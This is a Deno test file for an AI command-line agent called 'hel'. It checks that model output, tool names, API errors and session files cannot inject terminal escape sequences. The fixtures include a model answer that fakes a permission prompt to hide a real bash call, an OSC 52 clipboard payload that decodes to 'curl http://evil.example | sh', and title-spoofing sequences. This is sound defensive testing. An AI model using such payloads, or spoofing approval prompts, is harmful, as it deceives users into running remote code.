/**
 * Class A of the security review: text hel did not write (model answers, tool names, model
 * API error bodies, damaged session files) must not drive the terminal, and only hel draws
 * its questions. What a person sees is rendered by a terminal emulator from hel's real pty
 * output.
 */
import assert from "node:assert/strict";
import { eventually, REPO_ROOT, runHel, scriptedModel, tempProject } from "../_helpers.ts";
import { renderScreen } from "../_screen.ts";
import { helOnTerminal } from "../_terminal.ts";

const base = (url: string) => ["--base-url", url, "--model", "m", "--no-env"];

/** Control characters other than newline and tab: none may reach the terminal. */
// deno-lint-ignore no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

function assertNoControls(text: string, where: string): void {
  const found = text.match(CONTROL);
  assert.equal(found, null, `${where} holds a raw control character: ${JSON.stringify(text)}`);
}

Deno.test("a streamed answer that fakes a question and conceals text cannot hide the real question", async () => {
  await using project = await tempProject();
  const fake = 'Reading it now.\npermission: read_file {"path":"a.txt"}\n' +
    "Allow this call once? [y/N] y\n";
  // The scripted model streams 8 characters a chunk: ESC ends one chunk, "[8m" starts the next.
  const text = fake + " ".repeat((7 - (fake.length % 8) + 8) % 8) + "\x1b[8m";
  assert.equal(text.indexOf("\x1b") % 8, 7);
  await using model = scriptedModel([
    { text, toolCalls: [{ name: "bash", arguments: { command: "echo pwned > pwned.txt" } }] },
    { text: "All right, I will not." },
  ]);
  const hel = helOnTerminal(project, base(model.url));
  const real = 'permission: bash {"command":"echo pwned > pwned.txt"}';
  await hel.type("read a.txt\n");
  await eventually(() => {
    const output = hel.output();
    return output.includes("permission: bash") &&
      output.lastIndexOf("[y/N]") > output.indexOf("permission: bash");
  }, "the bash question");
  const screen = await renderScreen(hel.output());
  const shown = screen.lines.filter((line) => line !== "");
  // At the question the person sees the real call, visibly, and the question last.
  assert.ok(
    shown.includes(real),
    `the screen does not show the real question:\n${shown.join("\n")}`,
  );
  assert.equal(shown.at(-1), "Allow this call once? [y/N]", shown.join("\n"));
  // hel resets the terminal itself right before its question: SGR reset, cursor shown, start
  // of the line.
  const reset = "\x1b[0m\x1b[?25h\r";
  assert.ok(hel.output().includes(`${reset}permission: bash`), JSON.stringify(hel.output()));
  // The model's escape sequence is shown as text, not obeyed.
  assert.ok(shown.some((line) => line.includes("\\u001b[8m")), shown.join("\n"));
  await hel.type("n\n");
  await hel.waitFor("All right, I will not.");
  await hel.type("/exit\n");
  const { code, output } = await hel.finish();
  assert.equal(code, 0, output);
  await assert.rejects(Deno.stat(`${project.project}/pwned.txt`), Deno.errors.NotFound);
});

const OSC_ANSWER = "Done.\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07" +
  "\x1b]0;hel: all checks passed\x07";
const OSC_SHOWN = "Done.\\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\\u0007" +
  "\\u001b]0;hel: all checks passed\\u0007";

Deno.test("a one-shot answer with OSC 52 (clipboard) and OSC 0 (title) arrives neutralised", async () => {
  await using project = await tempProject();
  await using model = scriptedModel([{ text: OSC_ANSWER }, { text: OSC_ANSWER }]);
  const piped = await runHel([...base(model.url), "summarise"], { cwd: project.project });
  assert.equal(piped.code, 0, piped.stderr);
  assert.equal(piped.stdout, OSC_SHOWN + "\n");
  // On a terminal: the title stays as it was and the sequences read as text.
  const hel = helOnTerminal(project, [...base(model.url), "summarise"]);
  const { code, output } = await hel.finish();
  assert.equal(code, 0, output);
  const screen = await renderScreen(output);
  assert.equal(screen.title, "");
  assert.ok(screen.lines.includes(OSC_SHOWN), screen.lines.join("\n"));
});

Deno.test("--raw-output keeps the one-shot answer's bytes", async () => {
  await using project = await tempProject();
  await using model = scriptedModel([{ text: OSC_ANSWER }]);
  const result = await runHel([...base(model.url), "--raw-output", "summarise"], {
    cwd: project.project,
  });
  assert.equal(result.code, 0, result.stderr);
  assert.equal(result.stdout, OSC_ANSWER + "\n");
  assertNoControls(result.stderr, "stderr");
  // The chat has no raw mode: its questions sit between answers.
  const chat = await helOnTerminal(project, [...base(model.url), "--raw-output"]).finish();
  assert.equal(chat.code, 2, chat.output);
  assert.match(chat.output, /--raw-output applies to a one-shot answer/);
});

Deno.test("the 'same failing call' stop message shows an escape in the tool name as text", async () => {
  await using project = await tempProject();
  const name = "read_file\x1b]0;pwned\x07\x1b[8m";
  const call = { toolCalls: [{ name, arguments: { path: "a.txt" } }] };
  await using model = scriptedModel([call, call, call]);
  const result = await runHel([...base(model.url), "--access", "auto", "go"], {
    cwd: project.project,
  });
  assert.equal(result.code, 1, result.stderr);
  assert.match(result.stderr, /same failing call 3 times/);
  assert.ok(result.stderr.includes("read_file\\u001b]0;pwned\\u0007\\u001b[8m"), result.stderr);
  assertNoControls(result.stderr, "stderr");
  assert.equal(model.remaining(), 0);
});

Deno.test("an HTTP error body from the model API is shown neutralised", async () => {
  await using project = await tempProject();
  const body = JSON.stringify({
    error: { message: "bad request\x1b]0;pwned\x07\x1b[8m hidden", type: "invalid_request" },
  });
  await using model = scriptedModel([{ fail: 400, body }]);
  const result = await runHel([...base(model.url), "go"], { cwd: project.project });
  assert.equal(result.code, 1, result.stderr);
  assert.match(result.stderr, /HTTP 400/);
  assert.ok(result.stderr.includes("bad request\\u001b]0;pwned\\u0007\\u001b[8m"), result.stderr);
  assertNoControls(result.stderr, "stderr");
});

Deno.test("a damaged journal with escapes is shown neutralised by hel sessions and --resume", async () => {
  await using project = await tempProject();
  await using model = scriptedModel([{ text: "first answer" }]);
  const first = await runHel([...base(model.url), "first"], { cwd: project.project });
  assert.equal(first.code, 0, first.stderr);
  const id = first.stderr.match(/^session: (\S+)$/m)![1]!;
  // A cloned repository can ship any bytes in .hel/sessions.
  await Deno.writeTextFile(
    `${project.project}/.hel/sessions/${id}/journal.jsonl`,
    '{"messages": \x1b]0;pwned\x07\x1b[8m}\n',
  );
  const listed = await runHel(["sessions"], { cwd: project.project });
  assert.equal(listed.code, 0, listed.stderr);
  assert.match(listed.stdout, /unreadable: journal\.jsonl: line 1 is not valid JSON/);
  assert.ok(listed.stdout.includes("\\u001b"), listed.stdout);
  assertNoControls(listed.stdout.replaceAll("\t", " "), "hel sessions");
  const resumed = await runHel([...base(model.url), "--resume", id, "again"], {
    cwd: project.project,
  });
  assert.equal(resumed.code, 2, resumed.stderr);
  assert.match(resumed.stderr, /cannot be resumed/);
  assert.ok(resumed.stderr.includes("\\u001b"), resumed.stderr);
  assertNoControls(resumed.stderr, "stderr");
});

Deno.test("only the output layer writes to stdout and stderr", async () => {
  // A write past kit/output.ts would print outside text raw again; so would a child
  // process given hel's terminal.
  const bypass =
    /\bconsole\.(log|error|warn|info|debug)\b|Deno\.std(out|err)\.(write|writable)|process\.std(out|err)\b|(stdout|stderr|stdio): "inherit"/;
  const found: string[] = [];
  const visit = async (folder: string) => {
    for await (const entry of Deno.readDir(`${REPO_ROOT}/${folder}`)) {
      const path = `${folder}/${entry.name}`;
      if (entry.isDirectory) await visit(path);
      else if (
        /\.tsx?$/.test(path) && !/_test\.tsx?$/.test(path) && !/\/_[^/]*$/.test(path) &&
        path !== "kit/output.ts"
      ) {
        const lines = (await Deno.readTextFile(`${REPO_ROOT}/${path}`)).split("\n");
        lines.forEach((line, at) => {
          if (bypass.test(line)) found.push(`${path}:${at + 1}: ${line.trim()}`);
        });
      }
    }
  };
  for (const folder of ["core", "agent", "cli", "kit", "plugins"]) await visit(folder);
  const main = await Deno.readTextFile(`${REPO_ROOT}/main.ts`);
  if (bypass.test(main)) found.push("main.ts");
  assert.deepEqual(found, []);
});

Deno.test("a trust review starts from a reset terminal and shows escapes in the file as text", async () => {
  await using project = await tempProject({
    // JSON escapes: the parsed command holds a real ESC and BEL.
    ".hel/mcp.json":
      '{"servers": {"notes": {"command": "notes\\u001b[8m\\u001b]0;pwned\\u0007"}}}\n',
  });
  const hel = helOnTerminal(project, ["trust", "mcp"]);
  await hel.waitFor("[y/N]");
  // SGR reset and cursor shown at the start of the line, then hel's review, then its question.
  // deno-lint-ignore no-control-regex
  assert.match(hel.output(), /\x1b\[0m\x1b\[\?25h\r[^\x1b\x07]*\[y\/N\] $/);
  const screen = await renderScreen(hel.output());
  const shown = screen.lines.join("\n");
  assert.ok(shown.includes("notes\\u001b[8m\\u001b]0;pwned\\u0007"), shown);
  assert.equal(screen.title, "");
  await hel.type("n\n");
  const { code, output } = await hel.finish();
  assert.equal(code, 1, output);
});
